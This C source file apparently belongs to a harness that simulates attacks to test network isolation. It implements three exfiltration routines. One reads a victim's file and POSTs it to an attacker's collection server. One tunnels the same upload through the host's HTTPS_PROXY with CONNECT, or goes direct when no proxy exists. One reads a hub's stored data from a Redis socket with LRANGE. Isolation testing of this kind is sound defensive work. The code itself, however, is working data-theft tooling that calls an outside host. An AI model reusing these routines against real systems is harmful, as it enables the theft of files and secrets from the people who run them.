/* Attempts to get data out: straight to the attacker's collection server, through the
 * spoke's HTTPS proxy when it has one, and a read of the hub's memory in Redis. The
 * only destinations are the collector address and the Redis socket the orders name. */
#include "internal.h"
#include "util.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

#define IO_TIMEOUT_S 3
#define REPLY_MAX 65536

static void set_timeouts(int fd)
{
    struct timeval tv = {.tv_sec = IO_TIMEOUT_S};
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
}

/* "A.B.C.D:PORT" -> a connected TCP socket, or -1 with errno and a try reported. */
static int tcp_connect(const char *hostport, json_t *report)
{
    char host[64];
    const char *colon = strrchr(hostport, ':');
    if (!colon || (size_t)(colon - hostport) >= sizeof(host)) {
        errno = EINVAL;
        return -1;
    }
    memcpy(host, hostport, (size_t)(colon - hostport));
    host[colon - hostport] = '\0';
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(colon + 1))};
    if (inet_pton(AF_INET, host, &sa.sin_addr) != 1) {
        errno = EINVAL;
        return -1;
    }
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0) {
        int e = errno;
        report_try(report, "socket(AF_INET)", e);
        errno = e;
        return -1;
    }
    set_timeouts(fd);
    char what[96];
    snprintf(what, sizeof(what), "connect %s", hostport);
    if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
        int e = errno;
        report_try(report, what, e);
        close(fd);
        errno = e;
        return -1;
    }
    report_try(report, what, 0);
    return fd;
}

/* What to send: the victim's file when the orders name one and it can be read,
 * else the orders' payload. */
static char *loot(const struct orders *o, json_t *report, size_t *len, bool *stolen)
{
    char *data = steal_victim_file(o, report, len);
    *stolen = data != NULL;
    if (!data) {
        data = xstrdup(o->payload ? o->payload : "nothing");
        *len = strlen(data);
    }
    return data;
}

/* An HTTP POST of data on fd; bytes written, or -1. */
static ssize_t post(int fd, const char *host, const char *data, size_t len)
{
    char *head = xasprintf("POST /collect HTTP/1.1\r\nHost: %s\r\nContent-Type: text/plain\r\n"
                           "Content-Length: %zu\r\nConnection: close\r\n\r\n",
                           host, len);
    size_t hl = strlen(head);
    int rc = write_all(fd, head, hl);
    free(head);
    if (rc < 0 || write_all(fd, data, len) < 0)
        return -1;
    shutdown(fd, SHUT_WR);
    char buf[256];
    while (read(fd, buf, sizeof(buf)) > 0) {
    }
    return (ssize_t)(hl + len);
}

void attack_exfil_direct(const struct orders *o, json_t *report)
{
    if (!o->collector_addr) {
        report_errno(report, "orders without a collector", EINVAL);
        return;
    }
    size_t len;
    bool stolen;
    char *data = loot(o, report, &len, &stolen);
    json_object_set_new(report, "stolen", json_boolean(stolen));
    int fd = tcp_connect(o->collector_addr, report);
    if (fd < 0) {
        report_errno(report, "connect to the collector", errno);
        free(data);
        return;
    }
    ssize_t n = post(fd, o->collector_domain ? o->collector_domain : o->collector_addr, data, len);
    int e = errno;
    close(fd);
    free(data);
    if (n < 0) {
        report_errno(report, "send", e);
        return;
    }
    json_object_set_new(report, "sent", json_integer(n));
    report_done(report, "sent %zd bytes to %s", n, o->collector_addr);
}

/* "http://A.B.C.D:PORT[/]" -> "A.B.C.D:PORT". */
static bool proxy_hostport(const char *url, char *out, size_t outlen)
{
    if (strncasecmp(url, "http://", 7) != 0)
        return false;
    url += 7;
    size_t n = strcspn(url, "/");
    if (n == 0 || n >= outlen)
        return false;
    memcpy(out, url, n);
    out[n] = '\0';
    return true;
}

void attack_exfil_proxy(const struct orders *o, json_t *report)
{
    const char *proxy = getenv("HTTPS_PROXY");
    if (!proxy)
        proxy = getenv("https_proxy");
    if (!proxy) {
        /* No proxy in this environment: the attacker's domain is reached directly. */
        report_try(report, "HTTPS_PROXY unset: no proxy, going direct", 0);
        attack_exfil_direct(o, report);
        return;
    }
    char hp[128];
    if (!o->collector_domain || !proxy_hostport(proxy, hp, sizeof(hp))) {
        report_errno(report, "no collector domain or an unusable HTTPS_PROXY", EINVAL);
        return;
    }
    size_t len;
    bool stolen;
    char *data = loot(o, report, &len, &stolen);
    json_object_set_new(report, "stolen", json_boolean(stolen));
    int fd = tcp_connect(hp, report);
    if (fd < 0) {
        report_errno(report, "connect to the proxy", errno);
        free(data);
        return;
    }
    int port = o->collector_port > 0 ? o->collector_port : 443;
    char *req = xasprintf("CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n", o->collector_domain,
                          port, o->collector_domain, port);
    int rc = write_all(fd, req, strlen(req));
    free(req);
    char head[4096];
    size_t got = 0;
    while (rc == 0 && got < sizeof(head) - 1) {
        ssize_t n = read(fd, head + got, sizeof(head) - 1 - got);
        if (n <= 0)
            break;
        got += (size_t)n;
        head[got] = '\0';
        if (strstr(head, "\r\n\r\n"))
            break;
    }
    head[got] = '\0';
    int status = 0;
    sscanf(head, "HTTP/%*d.%*d %d", &status);
    json_object_set_new(report, "http_status", json_integer(status));
    const char *pe = strcasestr(head, "\r\nX-Proxy-Error:");
    if (pe) {
        pe += 16;
        while (*pe == ' ')
            pe++;
        json_object_set_new(report, "proxy_error", json_stringn(pe, strcspn(pe, "\r\n")));
    }
    if (status != 200) {
        const char *why = json_string_value(json_object_get(report, "proxy_error"));
        json_object_set_new(report, "result", json_string("failed"));
        json_object_set_new(
            report, "detail",
            json_sprintf("CONNECT %s:%d through %s: HTTP %d%s%s%s", o->collector_domain, port, hp,
                         status, why ? " (X-Proxy-Error: " : "", why ? why : "", why ? ")" : ""));
        close(fd);
        free(data);
        return;
    }
    ssize_t n = post(fd, o->collector_domain, data, len);
    close(fd);
    free(data);
    json_object_set_new(report, "sent", json_integer(n));
    report_done(report, "sent %zd bytes through the proxy", n);
}

void attack_redis_read(const struct orders *o, json_t *report)
{
    if (!o->redis_socket || !o->redis_key) {
        report_errno(report, "orders without a Redis socket and key", EINVAL);
        return;
    }
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    if (!str_copy(sa.sun_path, o->redis_socket, sizeof(sa.sun_path))) {
        report_errno(report, "socket path too long", ENAMETOOLONG);
        return;
    }
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0) {
        report_errno(report, "socket(AF_UNIX)", errno);
        return;
    }
    set_timeouts(fd);
    if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
        report_errno(report, o->redis_socket, errno);
        close(fd);
        return;
    }
    char *cmd = xasprintf("*4\r\n$6\r\nLRANGE\r\n$%zu\r\n%s\r\n$1\r\n0\r\n$2\r\n-1\r\n",
                          strlen(o->redis_key), o->redis_key);
    int rc = write_all(fd, cmd, strlen(cmd));
    free(cmd);
    char *buf = xmalloc(REPLY_MAX + 1);
    ssize_t n = rc < 0 ? -1 : read(fd, buf, REPLY_MAX);
    int e = errno;
    close(fd);
    if (n <= 0) {
        report_errno(report, "read the reply", n == 0 ? ECONNRESET : e);
        free(buf);
        return;
    }
    buf[n] = '\0';
    json_object_set_new(report, "bytes", json_integer(n));
    json_object_set_new(report, "reply_type", json_stringn(buf, 1));
    if (buf[0] == '-')
        report_errno(report, "Redis answered an error", EACCES);
    else
        report_done(report, "LRANGE %s: %zd bytes", o->redis_key, n);
    free(buf);
}
